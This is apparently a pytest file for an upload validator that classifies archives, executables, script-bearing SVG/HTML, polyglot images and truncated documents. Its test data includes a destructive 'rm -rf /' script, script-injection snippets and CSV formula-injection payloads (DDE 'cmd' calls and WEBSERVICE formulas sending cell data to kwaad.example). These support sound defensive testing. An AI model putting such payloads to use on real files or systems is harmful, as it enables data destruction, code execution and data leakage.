"""Archives, programs and drawings under another name; text that is none; pictures with something behind them."""

import gzip
import io
import lzma
import tarfile

import pytest

from . import samples
from .samples import picture, zipped


def tar():
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as out:
        out.addfile(tarfile.TarInfo("a.txt"))
    return made.getvalue()


@pytest.mark.parametrize("name", ["verslag.pdf", "foto.png", "verslag.docx", "cijfers.csv", "notitie.txt", "zonder"])
@pytest.mark.parametrize(
    ("make", "code"),
    [
        (lambda: zipped({"a.txt": "a"}), "archive"),
        (lambda: gzip.compress(b"a"), "archive"),
        (lambda: lzma.compress(b"a"), "archive"),
        (tar, "archive"),
        (lambda: b"BZh91AY&SY" + b"\x00" * 50, "archive"),
        (lambda: b"Rar!\x1a\x07\x00" + b"\x00" * 50, "archive"),
        (lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 50, "archive"),
        (lambda: b"MSCF" + b"\x00" * 50, "archive"),
        (lambda: b"\x00" * 0x8001 + b"CD001" + b"\x00" * 50, "archive"),
        (lambda: b"MZ\x90\x00\x03" + b"\x00" * 100, "program"),
        (lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "program"),
        (lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
        (lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x34", "program"),
        (lambda: b"{\\rtf1\\ansi hallo}", "rtf"),
        (lambda: samples.ole("WordDocument"), "legacy"),
        (lambda: b"\x00\x00\x00\x18ftypheic" + b"\x00" * 50, "other_image"),
        (lambda: picture("TIFF"), "other_image"),
        (lambda: picture("BMP"), "other_image"),
        (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "svg"),
        (lambda: b'\xef\xbb\xbf <?xml version="1.0"?><!-- a --><svg onload="a()"/>', "svg"),
        (lambda: b'<?xml version="1.0"?><x:svg xmlns:x="http://www.w3.org/2000/svg"><x:foreignObject/></x:svg>', "svg"),
        (lambda: b"<svg><path d='M0 0'/></svg>", "svg"),
        (lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>", "markup"),
        (lambda: b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "b">]><l>&a;</l>', "markup"),
        (lambda: b"%!PS-Adobe-3.0\n", "unknown"),
    ],
)  # fmt: skip
def test_what_it_is_decides_whatever_it_is_called(name, make, code, judged):
    assert judged(name if "." in name else name + ".", make()) == code


@pytest.mark.parametrize("format_", ["PNG", "JPEG", "GIF", "WEBP"])
def test_a_picture_with_something_behind_it(format_, judged):
    whole = picture(format_)
    extension = {"JPEG": "jpg"}.get(format_, format_.lower())
    assert judged(f"a.{extension}", whole) == "image"
    assert judged(f"a.{extension}", whole + zipped({"a.exe": b"MZ"})) == "two_faced"
    assert judged(f"a.{extension}", whole + b"Rar!\x1a\x07\x01\x00" + b"a" * 50) == "two_faced"
    if format_ != "JPEG":
        assert judged(f"a.{extension}", whole + b"<script>alert(1)</script>") == "two_faced"
    else:  # telephones put a few bytes of their own behind it
        assert judged("a.jpg", whole + b"SEFH" + b"\x00" * 200) == "image"


@pytest.mark.parametrize("format_", ["PNG", "JPEG", "GIF", "WEBP"])
@pytest.mark.parametrize("part", [0.1, 0.5, 0.9, 0.99])
def test_a_picture_that_was_cut_off(format_, part, judged):
    whole = picture(format_, (200, 150))
    assert judged("a.x", whole[: int(len(whole) * part)]) == "corrupt"


@pytest.mark.parametrize("name", ["verslag.pdf", "verslag.docx", "cijfers.xlsx", "verslag.odt", "dia's.pptx"])
@pytest.mark.parametrize("part", [0.1, 0.5, 0.9, 0.99])
def test_a_document_that_was_cut_off(name, part, valid, judged):
    whole = valid[name]
    assert judged(name, whole[: int(len(whole) * part)]) == "corrupt"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"a;b\n1;\x002\n", "not_text"),
        (b"a;b\n\x1b[31m1;2\n", "not_text"),
        ("a;b\n".encode("utf-16"), "encoding"),
        ("a;b\n".encode("utf-16-le"), "not_text"),
        (b"naam\n\x81\x8d\x8f\n", "encoding"),
        (bytes(range(0xA0, 0x100)) * 20, "encoding"),
        (b"a;=cmd|' /C calc'!A0\n", "calling_cell"),
        (b"\"=cmd|' /C calc'!A0\"\n", "calling_cell"),
        (b"a,@SUM(1+1)*cmd|' /C calc'!A0\n", "calling_cell"),
        (b"a\t-2+3+cmd|' /C calc'!A0\n", "calling_cell"),
        (b'a;=WEBSERVICE("https://kwaad.example/"&A1)\n', "calling_cell"),
        (b'a;= hyperlink ("https://kwaad.example/")\n', "calling_cell"),
        (b"a;+DDE(1)\n", "calling_cell"),
    ],
)
def test_csv_that_is_no_text_or_calls_out(data, code, judged):
    assert judged("cijfers.csv", data) == code


@pytest.mark.parametrize(
    "data",
    [
        b"a;-5;+31 6 1234;=1+1;@naam\n",
        b"a;geel|rood! en blauw;x\n",
        b"afbeelding (image (1).png);b\n",
        "naam;€\nCafé;5\n".encode("cp1252"),
        "日本;5\n".encode(),
        b"a;b\r\n1;2\r\n\x1a",
        b"MZ;b\n1;2\n",
        b"BM;b\n1;2\n",
    ],
)
def test_csv_that_people_send_every_day(data, judged):
    assert judged("cijfers.csv", data) == "csv"


@pytest.mark.parametrize("name", ["a.html", "a.js", "a.bat", "a.py", "a.eml", "a.json", "a.xml", "a.vcf"])
def test_text_under_a_name_that_does_something_is_refused(name, judged):
    assert judged(name, b"gewone tekst\n") == "unknown"
